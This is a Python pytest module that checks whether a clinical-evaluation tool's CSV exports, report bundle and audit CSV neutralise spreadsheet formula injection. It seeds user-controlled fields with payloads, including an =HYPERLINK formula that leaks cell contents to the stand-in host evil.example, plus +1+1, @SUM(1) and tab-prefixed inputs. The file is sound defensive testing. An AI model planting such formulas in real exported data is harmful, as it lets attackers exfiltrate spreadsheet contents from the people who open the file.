"""Formula injection (#22 item 5), as the attack: an item's output, a comment, a model name, a rater name and a
study name that start with ``=HYPERLINK(...)``, ``+1+1``, ``-2+3``, ``@SUM(1)`` or a tab reach ``medhelm export``
(CSV), the report's data bundle and the audit CSV. In every CSV file no cell may start a spreadsheet formula
unquoted; scores and every numeric column are unchanged, and the bundle still recomputes its agreement table."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sqlalchemy import text
from sqlmodel import Session, select
from support.dashboard_support import copy_of

from medhelm_core.agreement import agreement_table
from medhelm_core.cli import main
from medhelm_core.db.audit import record_event
from medhelm_core.db.engine import make_engine, transaction
from medhelm_core.db.models import Item
from medhelm_core.demo import DEMO_STUDY
from medhelm_core.export import export_study
from medhelm_core.frames import clinician_ratings_frame, metrics_long_frame
from medhelm_core.report import ReportOptions, read_scores_long, write_report
from medhelm_core.studies import get_study

pytestmark = pytest.mark.filterwarnings("ignore:The inplace keyword")

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the guideline")'
ATTACKS = (LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> tuple[Path, Path, Path, dict]:
    """The rated demo poisoned through every text column a user controls, then exported three ways."""
    folder = tmp_path_factory.mktemp("attacked")
    url = copy_of("rated", folder)
    engine = make_engine(url)
    with transaction(engine) as s:
        study = get_study(s, DEMO_STUDY)
        items = s.exec(select(Item).where(Item.study_id == study.id).order_by(Item.id)).all()
        for n, attack in enumerate(ATTACKS):  # model names and outputs of six items
            items[n].model, items[n].output_text, items[n].instance_id = attack, attack, f"{attack} #{n}"
        # rater names and comments, as stored by an older version (today's usernames are checked)
        s.exec(text("UPDATE user SET username = '@SUM(1)', display_name = :d WHERE username = 'clinician1'"),
               params={"d": LINK})
        s.exec(text("UPDATE user SET username = '-2+3' WHERE username = 'clinician2'"))
        s.exec(text("UPDATE ratingsubmission SET comment = :c WHERE id % 3 = 0"), params={"c": LINK})
        s.exec(text("UPDATE ratingsubmission SET comment = '+1+1' WHERE id % 3 = 1"))
        s.exec(text("UPDATE ratingsubmission SET comment = '-0.25' WHERE id % 3 = 2"))  # a number, as text
        s.exec(text("UPDATE judgeverdict SET raw_response = :r WHERE status = 'failed'"), params={"r": "\t=1"})
        # a score that is a negative number must stay that number
        s.exec(text("UPDATE metricscore SET value = -0.25 WHERE id = (SELECT MIN(id) FROM metricscore)"))
        record_event(s, "export", actor=LINK, study_id=study.id, note="-2+3")
        study.name = "+1+1 study"
        s.add(study)
    export_dir, report_dir, audit_csv = folder / "export", folder / "report", folder / "audit.csv"
    with transaction(engine) as s:
        study = get_study(s, "+1+1 study")
        export_study(s, study, export_dir, "csv", actor="@SUM(1)")
        expected = {"ratings": clinician_ratings_frame(s, study), "metrics": metrics_long_frame(s, study)}
    with Session(engine) as s:
        write_report(s, get_study(s, "+1+1 study"), report_dir, ReportOptions(n_resamples=50))
    engine.dispose()
    with pytest.raises(SystemExit) as done:
        main(["--database-url", url, "audit", "export", "--out", str(audit_csv)])
    assert done.value.code in (0, None)
    return export_dir, report_dir, audit_csv, expected


def csv_files(attacked) -> list[Path]:
    export_dir, report_dir, audit_csv, _ = attacked
    return [*sorted(export_dir.glob("*.csv")), *sorted((report_dir / "data").glob("*.csv")), audit_csv]


def test_no_csv_cell_starts_a_formula(attacked):
    files = csv_files(attacked)
    assert len(files) >= 12
    seen_quoted = set()
    for path in files:
        with path.open(newline="", encoding="utf-8") as fh:
            for line, row in enumerate(csv.reader(fh), start=1):
                for cell in row:
                    if cell.startswith(TRIGGERS):
                        assert PLAIN_NUMBER.fullmatch(cell), f"{path.name} line {line}: formula cell {cell!r}"
                    if cell.startswith("'") and cell[1:].startswith(TRIGGERS):
                        seen_quoted.add(path.name)
    # the attack reached every kind of file, quoted: item texts and models, names, comments, the audit trail
    assert {"items.csv", "ratings.csv", "rating_history.csv", "verdicts.csv", "scores_long.csv",
            "audit.csv"} <= seen_quoted


def test_quoted_cells_keep_their_text_and_numbers_stay_numbers(attacked):
    export_dir, _, audit_csv, expected = attacked
    history = pd.read_csv(export_dir / "rating_history.csv", keep_default_na=False)
    assert {"'" + LINK, "'+1+1"} <= set(history["comment"])
    assert "-0.25" in set(history["comment"].astype(str))  # a text that is a number is left as it is
    assert {"'@SUM(1)", "'-2+3"} <= set(history["rater_id"])
    items = pd.read_csv(export_dir / "items.csv", keep_default_na=False)
    assert {"'" + a for a in ATTACKS} <= set(items["model"]) and {"'" + a for a in ATTACKS} <= set(items["output"])

    ratings = pd.read_csv(export_dir / "ratings.csv")
    assert ratings["score"].tolist() == expected["ratings"]["score"].tolist()
    assert ratings["item_id"].tolist() == expected["ratings"]["item_id"].tolist()
    metrics = pd.read_csv(export_dir / "metrics.csv")
    assert pd.api.types.is_float_dtype(metrics["score"])
    assert np.allclose(metrics["score"], expected["metrics"]["score"]) and -0.25 in metrics["score"].tolist()
    audit = pd.read_csv(audit_csv, keep_default_na=False)
    assert "'" + LINK in set(audit["actor"]) and "'+1+1 study" in set(audit["study"])
    assert pd.api.types.is_integer_dtype(audit["id"]) and json.loads(audit["details"].iloc[-1])


def test_the_attacked_bundle_still_recomputes_its_agreement_table(attacked):
    _, report_dir, _, _ = attacked
    manifest = json.loads((report_dir / "manifest.json").read_text())
    analysis = manifest["analysis"]
    long = read_scores_long(report_dir / analysis["input"])
    assert set(ATTACKS) <= set(long["model"]) and {"@SUM(1)", "-2+3"} <= set(long["rater_id"])  # exact again
    again = agreement_table(long, protocol=analysis["protocol"], benchmarks=analysis["benchmarks"],
                            n_resamples=analysis["n_resamples"], seed=analysis["seed"])
    numbers = ("estimate", "ci_low", "ci_high", "pearson_r", "spearman_rho", "kappa_qw")
    stored = pd.read_csv(report_dir / analysis["output"], keep_default_na=False,
                         na_values={c: [""] for c in numbers})
    assert list(again["comparison"]) == list(stored["comparison"])
    for column in numbers:
        assert np.allclose(again[column].astype(float), stored[column].astype(float), atol=1e-9, equal_nan=True)
